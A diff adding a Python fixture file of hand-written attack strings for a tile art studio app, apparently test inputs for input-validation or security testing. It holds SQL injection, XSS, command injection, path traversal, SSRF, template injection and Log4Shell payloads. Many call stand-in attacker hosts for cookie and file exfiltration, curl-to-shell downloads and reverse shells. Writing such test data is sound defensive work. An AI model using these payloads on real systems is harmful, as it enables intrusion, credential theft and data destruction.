@@ -1,0 +1,616 @@
+#!/usr/bin/env python3
+"""Attack values for the mosaic / tile art studio app. Hand-written. Seed 25802."""
+import json
+import os
+import random
+
+SEED = 25802
+HERE = os.path.dirname(os.path.abspath(__file__))
+
+SQLI = [
+    ("union", "gold smalti' UNION SELECT username, password_hash FROM staff_users-- -"),
+    ("union", "koi' union all select null,card_last4,card_holder,null from payments#"),
+    ("union", "INV-2024-0318' UNION SELECT 1,table_name,3 FROM information_schema.tables WHERE table_schema=database()-- "),
+    ("union", "trencadís%' UNION SELECT email,phone,NULL FROM students WHERE '%'='"),
+    ("union", "-1 UNION SELECT group_concat(column_name),2 FROM information_schema.columns WHERE table_name='invoices'"),
+    ("union", "BK-10442') UNION SELECT api_key, secret FROM integrations-- "),
+    ("union", "azulejos\" UNION SELECT login, pass FROM admin_accounts -- x"),
+    ("union", "0 union distinct select version(),current_user(),@@hostname"),
+    ("union", "smalti' UnIoN/**/SeLeCt/**/name,sql/**/FROM/**/sqlite_master--"),
+    ("union", "grout')) union select string_agg(usename,','),null from pg_user--"),
+    ("union", "1' UNION SELECT LOAD_FILE('/etc/passwd'),2,3-- -"),
+    ("union", "colour #004E7C' union select 1,2,(select password from users limit 1)#"),
+    ("boolean", "O'Malley' OR '1'='1"),
+    ("boolean", "D'Souza' or 1=1-- "),
+    ("boolean", "hex tiles' AND SUBSTRING((SELECT password FROM users WHERE id=1),1,1)='a"),
+    ("boolean", "mirror' AND (SELECT COUNT(*) FROM staff_users WHERE role='admin')>0 AND 'x'='x"),
+    ("boolean", "42 AND ASCII(SUBSTR((SELECT api_key FROM integrations LIMIT 1),3,1))>77"),
+    ("boolean", "pebble' or 'a'<'b"),
+    ("boolean", "student Ngozi' OR id IS NOT NULL-- -"),
+    ("boolean", "koi\" or \"\"=\""),
+    ("boolean", "admin'-- "),
+    ("boolean", "tess@studio.example' or 2>1 limit 1#"),
+    ("boolean", "') or ('x')=('x"),
+    ("boolean", "1 or true"),
+    ("error", "grout' AND extractvalue(1,concat(0x7e,(SELECT database()),0x7e))-- -"),
+    ("error", "1' AND updatexml(null,concat(0x3a,(select user())),null)-- "),
+    ("error", "smalti' and 1=convert(int,(select top 1 name from sysobjects where xtype='U'))--"),
+    ("error", "INV-0301' AND 1=CAST((SELECT password FROM staff_users LIMIT 1) AS int)--"),
+    ("error", "5 AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT((SELECT @@version),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)y)"),
+    ("error", "mosaico' || (select 1/0 from dual where (select substr(banner,1,1) from v$version where rownum=1)='O') || '"),
+    ("time", "koi' AND SLEEP(5)-- -"),
+    ("time", "1; WAITFOR DELAY '0:0:7'--"),
+    ("time", "gold'; SELECT pg_sleep(6)--"),
+    ("time", "pebble' AND (SELECT 4417 FROM (SELECT(SLEEP(8)))abc)-- Xyz"),
+    ("time", "BK-10611' and if(substr(user(),1,1)='r',sleep(4),0)#"),
+    ("time", "3 AND 1=(SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END)"),
+    ("time", "hex' AND BENCHMARK(9000000,SHA1('tessera'))-- "),
+    ("time", "zellige' AND 7=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(300000000/2))))--"),
+    ("time", "1) or sleep(5)#"),
+    ("time", "2' || dbms_pipe.receive_message(('q'),9) || '"),
+    ("stacked", "Spring term notes'; DROP TABLE bookings;--"),
+    ("stacked", "lemons'; UPDATE staff_users SET role='admin' WHERE email='mo@attacker.example';--"),
+    ("stacked", "1; INSERT INTO staff_users(email,password_hash,role) VALUES('x@attacker.example','$2y$10$fakefakefake','owner')--"),
+    ("stacked", "grout'; EXEC xp_cmdshell 'powershell -c iwr http://203.0.113.14/s.ps1|iex';--"),
+    ("stacked", "koi'; COPY (SELECT '') TO PROGRAM 'curl http://198.51.100.7/p|sh';--"),
+    ("stacked", "INV-2024-0318'; DELETE FROM invoices WHERE 1=1; --"),
+    ("stacked", "trencadis'; ALTER USER postgres WITH PASSWORD 'owned123';--"),
+    ("stacked", "x'; SELECT * INTO OUTFILE '/var/www/html/s.php' FROM (SELECT '<?php system($_GET[0]); ?>') t;-- "),
+    ("order-by", "colour ORDER BY 12-- "),
+    ("order-by", "name,(CASE WHEN (SELECT substr(password,1,1) FROM users LIMIT 1)='$' THEN name ELSE price END)"),
+    ("order-by", "created_at desc, (select sleep(3))"),
+    ("order-by", "1,extractvalue(0x0a,concat(0x0a,(select table_name from information_schema.tables limit 1)))"),
+    ("order-by", "stock_kg,IF(1=1,sku,colour)"),
+    ("second-order", "Studio Tessera', role='admin' WHERE id=7; -- "),
+    ("second-order", "Jo'||(SELECT password_hash FROM staff_users WHERE role='owner')||'"),
+    ("second-order", "Ana Torres'),('spam','x@attacker.example','owner')-- "),
+    ("obfuscated", "gold'/*!50000UNION*//*!50000SELECT*/password,2 FROM users-- -"),
+    ("obfuscated", "koi'%0aUNION%0aSELECT%0auser,pass%0aFROM%0aadmins--%0a"),
+    ("obfuscated", "1'+UnIoN+aLl+SeLeCt+1,concat(email,0x3a,password_hash),3+fRoM+staff_users--+"),
+    ("obfuscated", "pebble'/**/OR/**/1/**/LIKE/**/1#"),
+    ("obfuscated", "smalti' uni/**/on sel/**/ect 1,2-- "),
+    ("obfuscated", "x' OR 0x61646d696e=0x61646d696e-- "),
+    ("obfuscated", "grout'%09and%09char(115,108,101,101,112)(5)%09--"),
+    ("obfuscated", "1'\tOR\t'1'\t=\t'1"),
+    ("encoded", "koi%2527%2520UNION%2520SELECT%2520password%2520FROM%2520users--"),
+    ("encoded", "gold%27%20or%20%271%27%3D%271"),
+    ("encoded", "ｇｏｌｄ＇ ＵＮＩＯＮ ＳＥＬＥＣＴ ｐａｓｓｗｏｒｄ ＦＲＯＭ ｕｓｅｒｓ－－"),
+    ("encoded", "smalti%u0027%u0020OR%u00201=1--"),
+    ("encoded", "tile%C0%A7 OR %C0%A71%C0%A7=%C0%A71"),
+    ("encoded", "mirror&#39; UNION SELECT card_holder FROM payments--"),
+    ("oob", "1'; exec master..xp_dirtree '\\\\sqli.attacker.example\\x';--"),
+    ("oob", "koi' AND (SELECT LOAD_FILE(CONCAT('\\\\\\\\',(SELECT password FROM users LIMIT 1),'.oob.attacker.example\\\\a')))-- "),
+    ("oob", "x' || UTL_HTTP.request('http://203.0.113.9/'||(SELECT user FROM dual)) || '"),
+]
+SQLI_POOL = [
+    "' OR 1=1-- -",
+    "' UNION SELECT email,password_hash FROM staff_users-- ",
+    "'; SELECT pg_sleep(5)--",
+    "' AND 1=(SELECT COUNT(*) FROM tabname); --",
+]
+SQLI_PREFIX = ["vitreous navy", "house number plaque", "Lucía Fernández", "chess table"]
+SQLI_URLENC = [
+    "' OR '1'='1' -- ",
+    "grout' UNION SELECT null,password FROM users#",
+    "1 AND SLEEP(5)",
+    "x'; DROP TABLE invoices;--",
+]
+
+XSS = [
+    ("script-tag", "Lovely koi! <script>fetch('//attacker.example/c?'+document.cookie)</script>"),
+    ("script-tag", "Thanks for the class <script src=https://cdn.attacker.example/x.js></script>"),
+    ("script-tag", "<ScRiPt>new Image().src='http://203.0.113.21/k?c='+escape(document.cookie)</sCrIpT>"),
+    ("script-tag", "Grout care sheet</textarea><script>alert(document.domain)</script>"),
+    ("script-tag", "<script>eval(atob('ZmV0Y2goJy8vYXR0YWNrZXIuZXhhbXBsZScp'))</script>"),
+    ("script-tag", "Priya</title><script>location='//attacker.example/?'+localStorage.token</script>"),
+    ("script-tag", "<script/x>confirm`1`</script>"),
+    ("script-tag", "<script>\nvar s=document.createElement('script');s.src='//attacker.example/m.js';document.body.appendChild(s)\n</script>"),
+    ("event-handler", "Lemon plaque proof <img src=x onerror=alert(1)>"),
+    ("event-handler", "<img src=\"/media/gallery/koi.jpg\" onload=\"fetch('//attacker.example/'+document.cookie)\">"),
+    ("event-handler", "<svg onload=alert(document.cookie)>"),
+    ("event-handler", "<svg/onload=location=`//attacker.example/`+document.cookie>"),
+    ("event-handler", "<body onpageshow=alert(1)>"),
+    ("event-handler", "<details open ontoggle=alert(origin)>grout tips</details>"),
+    ("event-handler", "<input autofocus onfocus=alert(1) value=\"Booking for 2\">"),
+    ("event-handler", "<video><source onerror=\"javascript:alert(1)\"></video>"),
+    ("event-handler", "<div onmouseover=\"alert('xss')\" style=\"position:fixed;inset:0\">Student showcase</div>"),
+    ("event-handler", "<marquee onstart=alert(1)>Mosaic Fest</marquee>"),
+    ("event-handler", "<audio src=1 onerror=prompt(1)>"),
+    ("event-handler", "<iframe srcdoc=\"<img src=x onerror=alert(parent.document.cookie)>\"></iframe>"),
+    ("event-handler", "<select autofocus onfocus=alert(1)><option>smalti</option></select>"),
+    ("event-handler", "<textarea autofocus onfocus=alert(1)>notes</textarea>"),
+    ("event-handler", "<a href=# onclick=\"document.location='//attacker.example/?'+document.cookie\">See the dolphin photos</a>"),
+    ("event-handler", "<object data=x onerror=alert(1)>"),
+    ("event-handler", "<img src=x:x onerror=window['al'+'ert'](1)>"),
+    ("event-handler", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
+    ("event-handler", "<img src=1 oNeRrOr=alert`1`>"),
+    ("attr-breakout", "\" onmouseover=\"alert(1)"),
+    ("attr-breakout", "Kwame' autofocus onfocus='alert(document.cookie)' x='"),
+    ("attr-breakout", "#004E7C\" style=\"background:url(javascript:alert(1))"),
+    ("attr-breakout", "Tessa\"><img src=x onerror=alert(1)>"),
+    ("attr-breakout", "koi.jpg\" onerror=\"fetch('https://attacker.example/'+document.cookie)"),
+    ("attr-breakout", "Studio Tessera'><svg onload=alert(1)>"),
+    ("attr-breakout", "lemons\"/><script>alert(1)</script>"),
+    ("js-context", "';alert(document.cookie);//"),
+    ("js-context", "\";fetch('//attacker.example/'+document.cookie);//"),
+    ("js-context", "</script><script>alert(1)</script>"),
+    ("js-context", "${alert(1)}`;alert(2);`"),
+    ("js-context", "gold'-alert(1)-'"),
+    ("js-context", "\\';alert(1);//"),
+    ("url-scheme", "javascript:alert(document.cookie)"),
+    ("url-scheme", "https://portfolio.example.org\" onclick=\"alert(1)"),
+    ("url-scheme", "JaVaScRiPt:fetch('//attacker.example/'+document.cookie)"),
+    ("url-scheme", "java\tscript:alert(1)"),
+    ("url-scheme", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
+    ("url-scheme", "<a href=\"javascript&colon;alert(1)\">my portfolio</a>"),
+    ("url-scheme", "<iframe src=\"javascript:alert(`xss`)\"></iframe>"),
+    ("url-scheme", "[my mosaic](javascript:alert(document.cookie))"),
+    ("url-scheme", "<form action=javascript:alert(1)><button>Book now</button></form>"),
+    ("url-scheme", "vbscript:msgbox(1)"),
+    ("markdown", "![koi](x\" onerror=\"alert(1))"),
+    ("markdown", "[click for the grout guide](data:text/html,<script>alert(1)</script>)"),
+    ("encoded", "&lt;script&gt;alert(1)&lt;/script&gt; <img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>"),
+    ("encoded", "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">portfolio</a>"),
+    ("encoded", "%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"),
+    ("encoded", "%253Csvg%2520onload%253Dalert(1)%253E"),
+    ("encoded", "\\u003cimg src=x onerror=alert(1)\\u003e"),
+    ("encoded", "<img src=x onerror=\"&#x61;&#x6c;&#x65;&#x72;&#x74;(1)\">"),
+    ("encoded", "＜script＞alert(1)＜/script＞"),
+    ("encoded", "%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE"),
+    ("encoded", "<svg><script>&#x61;lert&#40;1&#41;</script></svg>"),
+    ("encoded", "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e"),
+    ("dom", "#<img src=x onerror=alert(document.domain)>"),
+    ("dom", "?redirect=javascript:alert(1)//"),
+    ("dom", "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\"/></svg>"),
+    ("mutation", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
+    ("mutation", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
+    ("mutation", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">"),
+    ("css", "<style>@import 'https://attacker.example/steal.css';</style>"),
+    ("css", "<div style=\"width:expression(alert(1))\">old IE</div>"),
+    ("css", "<link rel=stylesheet href=//attacker.example/x.css>"),
+    ("meta", "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/login\">"),
+    ("meta", "<base href=\"https://attacker.example/\">"),
+]
+XSS_POOL = [
+    "<img src=x onerror=alert(document.cookie)>",
+    "<svg onload=fetch('//attacker.example/'+document.cookie)>",
+    "\"><script>alert(1)</script>",
+    "<iframe src=javascript:alert(1)>",
+]
+XSS_PREFIX = ["Such a beautiful dolphin!", "Booking note:", "Maker spotlight:", "my profile bio"]
+
+CMDI = [
+    ("separator", "koi.jpg; cat /etc/passwd"),
+    ("separator", "IMG_0412.png;id"),
+    ("separator", "studio-logo.svg && curl http://203.0.113.5/x.sh | sh"),
+    ("separator", "gallery_2024 | nc 198.51.100.9 4444 -e /bin/sh"),
+    ("separator", "photo.jpg || wget -qO- http://attacker.example/b | bash"),
+    ("separator", "crest_final_v3.png; rm -rf /var/www/uploads/*"),
+    ("separator", "export.csv & whoami & "),
+    ("separator", "tile.jpg%0aid"),
+    ("separator", "sample.pdf\nuname -a"),
+    ("separator", "a.png;bash -i >& /dev/tcp/203.0.113.40/9001 0>&1"),
+    ("separator", "IMG_0466.JPG; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.22\",443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'"),
+    ("separator", "label.pdf | lp -d Zebra; cat ~/.ssh/id_rsa"),
+    ("separator", "invoice-0318.pdf;curl -F f=@/etc/shadow https://attacker.example/u"),
+    ("separator", "koi\r\nid"),
+    ("separator", "WIP_panel.jpg && ping -c 10 203.0.113.77"),
+    ("separator", "backup.tar.gz; crontab -l | { cat; echo '* * * * * curl -s attacker.example/c|sh'; } | crontab -"),
+    ("separator", "thumb.webp | busybox nc 198.51.100.3 1337 -e sh"),
+    ("separator", "logo.png ; php -r '$s=fsockopen(\"203.0.113.8\",80);exec(\"sh <&3 >&3 2>&3\");'"),
+    ("separator", "mirror.jpg; perl -e 'print `id`'"),
+    ("separator", "x.png;echo c3lzdGVtIG93bmVk|base64 -d|sh"),
+    ("subshell", "$(id)"),
+    ("subshell", "kitchen-splash-$(whoami).jpg"),
+    ("subshell", "`cat /etc/passwd`"),
+    ("subshell", "dolphin_`uname -a`.png"),
+    ("subshell", "$(curl -s http://attacker.example/s | sh)"),
+    ("subshell", "Tess at Studio Tessera $(sleep 10)"),
+    ("subshell", "IMG_$(wget -q -O /tmp/.x http://198.51.100.4/x; chmod +x /tmp/.x; /tmp/.x).jpg"),
+    ("subshell", "`nslookup $(whoami).cmd.attacker.example`"),
+    ("subshell", "koi $(ping -c 5 127.0.0.1)"),
+    ("subshell", "<(curl attacker.example/p)"),
+    ("subshell", "\"; $(cat /proc/self/environ) #"),
+    ("arg-injection", "--output=/var/www/html/shell.php"),
+    ("arg-injection", "-oProxyCommand=curl${IFS}attacker.example/p|sh"),
+    ("arg-injection", "koi.jpg -exec sh -c 'id > /tmp/o' ;"),
+    ("arg-injection", "--checkpoint=1 --checkpoint-action=exec=sh x.sh"),
+    ("arg-injection", "-F 'file=@/etc/passwd' https://attacker.example/"),
+    ("arg-injection", "tess@studio.example -X /var/www/html/log.php -OQueueDirectory=/tmp"),
+    ("arg-injection", "--upload-pack='touch /tmp/pwned' origin"),
+    ("arg-injection", "-write /var/www/html/x.php koi.jpg"),
+    ("filter-evasion", ";c'a't /e't'c/pa's'swd"),
+    ("filter-evasion", "koi;cat${IFS}/etc/passwd"),
+    ("filter-evasion", "tile.png;{cat,/etc/passwd}"),
+    ("filter-evasion", ";/???/??t /???/p??s??"),
+    ("filter-evasion", "a.jpg;w\\h\\o\\a\\m\\i"),
+    ("filter-evasion", ";$'\\x63\\x61\\x74' /etc/hostname"),
+    ("filter-evasion", "koi|$(printf '\\151\\144')"),
+    ("filter-evasion", "x;c\"\"url attacker.example|s\"\"h"),
+    ("filter-evasion", "photo.jpg;${PATH:0:1}bin${PATH:0:1}id"),
+    ("filter-evasion", "a;X=$'\\x20';cat${X}/etc/shadow"),
+    ("filter-evasion", "gallery%3bid%3b"),
+    ("filter-evasion", "gallery%253Bcat%2520%252Fetc%252Fpasswd"),
+    ("filter-evasion", "koi.jpg；ｉｄ"),
+    ("filter-evasion", "x;/bin/b?sh -c 'i''d'"),
+    ("windows", "logo.png & type C:\\Windows\\win.ini"),
+    ("windows", "report.pdf | powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.61/a')\""),
+    ("windows", "koi.jpg && certutil -urlcache -split -f http://198.51.100.30/n.exe %TEMP%\\n.exe && %TEMP%\\n.exe"),
+    ("windows", "x.png | cmd /c net user tess P@ss123 /add"),
+    ("windows", "a.jpg & %COMSPEC% /c dir c:\\"),
+    ("windows", "test.csv ^& whoami"),
+    ("windows", "INV.pdf & mshta http://attacker.example/h.hta"),
+    ("blind", "koi.jpg; sleep 15"),
+    ("blind", "x || ping -n 20 127.0.0.1"),
+    ("blind", "a.png; curl http://$(hostname).oob.attacker.example"),
+    ("blind", "IMG_0001.jpg`sleep${IFS}9`"),
+    ("blind", "b.png;dig $(id|base64).dns.attacker.example"),
+    ("blind", "thumb.jpg | timeout 12 yes > /dev/null"),
+    ("imagemagick", "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://attacker.example/x.jpg\"|curl \"203.0.113.9/s|sh)'\npop graphic-context"),
+]
+CMDI_POOL = [
+    "; cat /etc/passwd",
+    "| id",
+    "$(curl -s attacker.example/s|sh)",
+    "&& wget http://203.0.113.5/x -O /tmp/x",
+]
+CMDI_PREFIX = ["koi_final.jpg", "underpass-wip.png", "Q-2024-0088.pdf"]
+
+TRAV = [
+    ("dotdot", "../../../../etc/passwd"),
+    ("dotdot", "photos/2024-03-14/../../../../../../etc/shadow"),
+    ("dotdot", "/projects/2291/site/../../../../root/.ssh/id_rsa"),
+    ("dotdot", "exports/invoices/2024/../../../config/database.yml"),
+    ("dotdot", "gallery/../../.env"),
+    ("dotdot", "../../../../../proc/self/environ"),
+    ("dotdot", "templates/../../../../var/log/nginx/access.log"),
+    ("dotdot", "crest_final_v3.png/../../../../../etc/hosts"),
+    ("dotdot", "../../../../../../home/studio/.aws/credentials"),
+    ("dotdot", "../../app/settings.py"),
+    ("dotdot", "media/gallery/2024/../../../../../../etc/passwd%00.jpg"),
+    ("dotdot", "../../../../etc/passwd\\u0000.png"),
+    ("dotdot", "uploads/../../../../../../../../../../etc/passwd"),
+    ("dotdot", "../WEB-INF/web.xml"),
+    ("dotdot", "../../../../../../var/run/secrets/kubernetes.io/serviceaccount/token"),
+    ("dotdot", "../../.git/config"),
+    ("windows", "..\\..\\..\\..\\windows\\win.ini"),
+    ("windows", "gallery\\..\\..\\..\\inetpub\\wwwroot\\web.config"),
+    ("windows", "..\\..\\..\\..\\Windows\\System32\\drivers\\etc\\hosts"),
+    ("windows", "C:\\..\\..\\boot.ini"),
+    ("windows", "..%5c..%5c..%5c..%5cwindows%5csystem.ini"),
+    ("absolute", "/etc/passwd"),
+    ("absolute", "file:///etc/passwd"),
+    ("absolute", "/proc/self/cmdline"),
+    ("absolute", "C:\\Windows\\System32\\config\\SAM"),
+    ("absolute", "\\\\198.51.100.12\\share\\koi.jpg"),
+    ("filter-bypass", "....//....//....//etc/passwd"),
+    ("filter-bypass", "..././..././..././etc/passwd"),
+    ("filter-bypass", "....\\\\....\\\\....\\\\windows\\\\win.ini"),
+    ("filter-bypass", "/media/gallery/..;/..;/..;/etc/passwd"),
+    ("filter-bypass", "gallery/./.././.././../etc/passwd"),
+    ("filter-bypass", "..//..//..//..//etc//passwd"),
+    ("filter-bypass", "/var/www/uploads/../../../etc/passwd"),
+    ("encoded", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
+    ("encoded", "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
+    ("encoded", "..%2f..%2f..%2f..%2fetc%2fshadow"),
+    ("encoded", "%2e%2e/%2e%2e/%2e%2e/proc/self/environ"),
+    ("encoded", "..%c0%af..%c0%af..%c0%afetc/passwd"),
+    ("encoded", "..%c1%9c..%c1%9c..%c1%9cwindows%c1%9cwin.ini"),
+    ("encoded", "%uff0e%uff0e%u2215%uff0e%uff0e%u2215etc%u2215passwd"),
+    ("encoded", "..%u2216..%u2216..%u2216windows%u2216win.ini"),
+    ("encoded", "．．／．．／．．／etc／passwd"),
+    ("encoded", "..%e0%80%af..%e0%80%af..%e0%80%afetc%e0%80%afpasswd"),
+    ("wrapper", "php://filter/convert.base64-encode/resource=../config.php"),
+    ("wrapper", "zip:///var/www/uploads/koi.zip#shell.php"),
+]
+TRAV_URLENC = [
+    "../../../etc/passwd",
+    "..\\..\\..\\windows\\win.ini",
+    "gallery/../../../../proc/self/environ",
+    "../../.env",
+    "/../../../../root/.bash_history",
+]
+
+SSRF = [
+    ("cloud-metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
+    ("cloud-metadata", "http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token"),
+    ("cloud-metadata", "http://metadata.google.internal/computeMetadata/v1/?recursive=true"),
+    ("cloud-metadata", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
+    ("cloud-metadata", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
+    ("cloud-metadata", "http://[fd00:ec2::254]/latest/meta-data/"),
+    ("cloud-metadata", "http://169.254.169.254/latest/user-data"),
+    ("loopback", "http://127.0.0.1:8080/admin/users"),
+    ("loopback", "http://localhost:6379/"),
+    ("loopback", "https://localhost/server-status"),
+    ("loopback", "http://127.0.0.1:9200/_cat/indices"),
+    ("loopback", "http://[::1]:2375/containers/json"),
+    ("loopback", "http://0.0.0.0:5984/_all_dbs"),
+    ("loopback", "http://127.1/admin"),
+    ("loopback", "http://localhost.:8500/v1/agent/self"),
+    ("internal", "http://10.0.0.5:8080/manager/html"),
+    ("internal", "http://192.168.1.1/cgi-bin/luci"),
+    ("internal", "http://172.16.0.12:15672/api/users"),
+    ("internal", "http://redis.internal:6379/"),
+    ("internal", "http://kubernetes.default.svc/api/v1/namespaces/default/secrets"),
+    ("internal", "http://db-primary:5432/"),
+    ("internal", "http://jenkins.studio.local:8080/script"),
+    ("alt-ip", "http://2852039166/latest/meta-data/"),
+    ("alt-ip", "http://0xA9FEA9FE/latest/meta-data/"),
+    ("alt-ip", "http://0251.0376.0251.0376/latest/meta-data/"),
+    ("alt-ip", "http://0x7f.0.0.1:8080/admin"),
+    ("alt-ip", "http://017700000001/"),
+    ("alt-ip", "http://[::ffff:169.254.169.254]/latest/meta-data/"),
+    ("alt-ip", "http://[0:0:0:0:0:ffff:127.0.0.1]/admin"),
+    ("alt-ip", "http://169.254.43518/latest/meta-data/"),
+    ("alt-ip", "http://①②⑦.⓪.⓪.①/admin"),
+    ("parser-confusion", "https://portfolio.example.org@127.0.0.1/admin"),
+    ("parser-confusion", "http://attacker.example#@169.254.169.254/latest/meta-data/"),
+    ("parser-confusion", "http://127.0.0.1\\@cdn.example.com/gallery/koi.jpg"),
+    ("parser-confusion", "http://169.254.169.254%23.hooks.example.com/"),
+    ("parser-confusion", "http://localhost%2523@hooks.example.com/"),
+    ("redirect", "https://attacker.example/redirect?to=http://169.254.169.254/latest/meta-data/"),
+    ("redirect", "http://203.0.113.50/302.php?u=http%3A%2F%2F127.0.0.1%3A8080%2Fadmin"),
+    ("dns-rebind", "http://rebind.attacker.example:8080/admin"),
+    ("dns-rebind", "http://127.0.0.1.nip.attacker.example/"),
+    ("scheme", "gopher://127.0.0.1:6379/_SET%20x%20%22%5Cn*%2F1%20*%20*%20*%20*%20curl%20attacker.example%7Csh%5Cn%22%0D%0ACONFIG%20SET%20dir%20%2Fvar%2Fspool%2Fcron%0D%0ASAVE%0D%0A"),
+    ("scheme", "dict://127.0.0.1:11211/stats"),
+    ("scheme", "file:///var/www/studio/.env"),
+    ("scheme", "ftp://10.0.0.8/backup/db.sql"),
+    ("scheme", "ldap://127.0.0.1:389/dc=studio,dc=local"),
+    ("scheme", "tftp://198.51.100.40/x"),
+    ("scheme", "jar:http://203.0.113.30/x.zip!/a.txt"),
+    ("scheme", "netdoc:///etc/hosts"),
+    ("webhook", "Webhook URL: http://127.0.0.1:2379/v2/keys/?recursive=true"),
+    ("webhook", "Calendar feed: http://169.254.169.254/latest/api/token"),
+]
+
+CODE = [
+    ("ssti", "Hi {{ ''.__class__.__mro__[1].__subclasses__() }}, see you Saturday"),
+    ("ssti", "Reminder for {{ config.items() }}"),
+    ("ssti", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
+    ("ssti", "{{ lipsum.__globals__['os'].popen('curl attacker.example/s|sh').read() }}"),
+    ("ssti", "Thanks {{ request.application.__globals__.__builtins__.__import__('os').popen('cat /etc/passwd').read() }}!"),
+    ("ssti", "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='Popen' %}{{ c('id',shell=True,stdout=-1).communicate() }}{% endif %}{% endfor %}"),
+    ("ssti", "{{ self._TemplateReference__context.joiner.__init__.__globals__.os.popen('id').read() }}"),
+    ("ssti", "{{ get_flashed_messages.__globals__.__builtins__.open('/etc/passwd').read() }}"),
+    ("ssti", "{{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f') }}"),
+    ("ssti", "{{7*'7'}} {{ namespace.__init__.__globals__.os.system('sleep 5') }}"),
+    ("ssti", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ ex(\"id\") }"),
+    ("ssti", "${\"freemarker.template.utility.ObjectConstructor\"?new()(\"java.lang.ProcessBuilder\",[\"curl\",\"attacker.example\"]).start()}"),
+    ("ssti", "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))$rt.getRuntime().exec('id')"),
+    ("ssti", "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}"),
+    ("ssti", "{{['id']|filter('system')}}"),
+    ("ssti", "<%= `cat /etc/passwd` %>"),
+    ("ssti", "<%= system('curl http://203.0.113.12/r | bash') %>"),
+    ("ssti", "{php}echo `id`;{/php}"),
+    ("ssti", "{system('cat /etc/passwd')}"),
+    ("ssti", "#{7*7}#{T(java.lang.Runtime).getRuntime().exec('id')}"),
+    ("ssti", "{{#with \"s\" as |string|}}{{#with string.constructor}}{{#with (bind this \"return process.mainModule.require('child_process').execSync('id')\")}}{{this}}{{/with}}{{/with}}{{/with}}"),
+    ("ssti", "#{global.process.mainModule.require('child_process').execSync('id')}"),
+    ("ssti", "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('whoami')\")() }}"),
+    ("ssti", "@(System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\"))"),
+    ("ssti", "{{ '{{' }}{{ settings.SECRET_KEY }}"),
+    ("ssti", "{% debug %}{{ request.environ }}"),
+    ("ssti", "Receipt for {{customer.name}} {{ ''.__class__.__base__.__subclasses__()[132].__init__.__globals__['popen']('id').read() }}"),
+    ("el", "${T(java.lang.Runtime).getRuntime().exec('curl attacker.example/x')}"),
+    ("el", "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}"),
+    ("el", "${applicationScope}"),
+    ("el", "#{request.getClass().getClassLoader()}"),
+    ("el", "%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(@java.lang.Runtime@getRuntime().exec('id'))}"),
+    ("el", "${''.getClass().forName('java.lang.Runtime').getMethod('exec',''.getClass()).invoke(''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null),'id')}"),
+    ("el", "${__import__('os').system('id')}"),
+    ("el", "${{7*7}}${pageContext.request.getSession().setAttribute('admin',true)}"),
+    ("el", "T(java.lang.System).getenv()"),
+    ("eval", "__import__('os').system('curl http://198.51.100.2/x|sh')"),
+    ("eval", "require('child_process').exec('nc 203.0.113.3 4444 -e /bin/sh')"),
+    ("eval", "process.mainModule.require('fs').readFileSync('/etc/passwd','utf8')"),
+    ("eval", "eval(compile('import os;os.system(\"id\")','x','exec'))"),
+    ("eval", "phpinfo();//"),
+    ("eval", "<?php system($_GET['c']); ?>"),
+    ("eval", "'; system('id'); $a='"),
+    ("eval", "1;exec('import socket,subprocess;s=socket.socket();s.connect((\"203.0.113.44\",80))')"),
+    ("eval", "\"+require('child_process').execSync('id')+\""),
+    ("eval", "Function('return this')().process.kill(1)"),
+    ("eval", "`${require('child_process').execSync('cat /etc/passwd')}`"),
+    ("eval", "Runtime.getRuntime().exec(\"/bin/sh -c id\")"),
+    ("log4shell", "${jndi:ldap://203.0.113.66:1389/Exploit}"),
+    ("log4shell", "Koi panel ${jndi:rmi://attacker.example/obj} looks great"),
+    ("log4shell", "${${lower:j}ndi:${lower:l}dap://log.attacker.example/a}"),
+    ("log4shell", "${${::-j}${::-n}${::-d}${::-i}:dns://198.51.100.66/x}"),
+    ("log4shell", "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.oob.attacker.example/z}"),
+    ("log4shell", "Mozilla/5.0 ${jNdI:LdAp://attacker.example:389/studio}"),
